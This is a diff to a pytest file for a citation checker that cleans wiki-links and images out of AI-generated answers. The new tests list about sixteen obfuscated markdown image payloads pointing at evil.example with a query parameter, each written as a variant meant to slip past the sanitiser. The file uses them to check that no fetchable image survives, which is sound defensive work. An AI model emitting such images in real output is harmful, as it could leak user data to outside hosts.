@@ -3,6 +3,7 @@ from __future__ import annotations
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from sidecar.citations import CitationChecker, obsidian_uri
 from sidecar.prompt import Passage
@@ -54,11 +55,44 @@ def checked(
         ("a < b and c <d", "a < b and c <d"),
         ("An open [[end", "An open [[end"),
         ("array[[0]] = 1", "array0 = 1"),
+        ("Use `[[ -f x ]]` here", "Use `[[ -f x ]]` here"),
+        ("```sh\nif [[ -f x ]]; then\n```\nSee [[Nowhere]].", "```sh\nif [[ -f x ]]; then\n```\nSee Nowhere."),
+        ("~~~\n```\n[[a b]]\n~~~\n[[c d]]", "~~~\n```\n[[a b]]\n~~~\nc d"),
+        ("```rust\nlet a = vec![1, 2];\n```", "```rust\nlet a = vec![1, 2];\n```"),
+        ("`vec![1, 2]` makes one", "`vec![1, 2]` makes one"),
         ("What?! [ok] !", "What?! [ok] !"),
     ],
 )
 def test_only_what_checks_out_is_shown_as_a_link(answer: str, shown: str) -> None:
     assert checked(answer, passage())[0] == shown
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        "![x](&#104;ttps://evil.example/?q=240)",
+        "![x](https\\://evil.example/?q=240)",
+        "![x](\nhttps://evil.example/?q=240)",
+        "![x](<https://evil.example/?q=240>)",
+        "![x](https://evil.example/?q=" + "2" * 3000 + ")",
+        "![x](https://evil.example/(a)?q=240)",
+        "![a [b] c](https://evil.example/?q=240)",
+        "![a\nb](https://evil.example/?q=240)",
+        "![a\\]b](https://evil.example/?q=240)",
+        "![a `]` b](https://evil.example/?q=240)",
+        "![[link](u)](https://evil.example/?q=240)",
+        "![[known]](https://evil.example/?q=240)",
+        "![x][1]\n\n[1]: https://evil.example/?q=240",
+        "![1][]\n\n[1]: https://evil.example/?q=240",
+        "![1]\n\n[1]: https://evil.example/?q=240",
+        "```\n![x](https://evil.example/?q=240)\n```",
+    ],
+)
+@pytest.mark.parametrize("step", [None, 1, 5])
+def test_no_form_of_image_survives_that_would_be_fetched_from_elsewhere(image: str, step: int | None) -> None:
+    shown, _ = checked(f"Look: {image} there", passage(text="[[known]]"), step=step)
+    tokens = MarkdownIt("commonmark").parse(shown)
+    assert not [child for token in tokens for child in token.children or () if child.type == "image"], shown
 
 
 @pytest.mark.parametrize("step", [1, 2, 3, 7])
@@ -70,7 +104,7 @@ def test_the_answer_is_the_same_however_it_is_cut_into_deltas(step: int) -> None
     assert [cut[a.start_index : a.end_index] for a in checker.annotations] == ["[[Boiler#Repair]]", "[[Boiler]]"]
 
 
-@given(st.text(alphabet="[]!()<>|#abBoiler imgx:/\n", max_size=80), st.integers(1, 5))
+@given(st.text(alphabet="[]!()<>|#abBoiler imgx:/\n`~\\", max_size=80), st.integers(1, 5))
 def test_nothing_is_lost_or_doubled_by_streaming(answer: str, step: int) -> None:
     assert checked(answer, passage(), step=step)[0] == checked(answer, passage())[0]
 
